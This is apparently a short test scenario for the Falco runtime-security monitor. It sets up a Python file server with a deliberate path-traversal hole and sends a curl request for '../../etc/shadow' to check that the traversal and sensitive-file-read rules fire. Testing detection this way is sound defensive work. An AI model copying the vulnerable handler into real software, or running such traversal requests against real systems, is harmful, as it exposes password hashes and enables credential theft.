# category: credential-access
# technique: T1083
# art: no
# expect: sensitive-file-read
# image: debian
# init: python3 /opt/scenario/files-app.py
# layer: mkdir -p srv/www opt/scenario && echo hello > srv/www/index.html && printf 'import http.server, os\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        try: data = open("/srv/www/" + self.path.lstrip("/"), "rb").read(); self.send_response(200)\n        except OSError: data = b"no"; self.send_response(404)\n        self.end_headers(); self.wfile.write(data)\nhttp.server.HTTPServer(("127.0.0.1", 8000), H).serve_forever()\n' > opt/scenario/files-app.py
# desc: a file-serving app with a path traversal hands out /etc/shadow: the trusted service itself reads it, well after its startup (Falco's Directory traversal monitored file read, Read sensitive file trusted after startup)
sleep 5
curl -s --path-as-is "http://127.0.0.1:8000/../../etc/shadow" | head -c 20
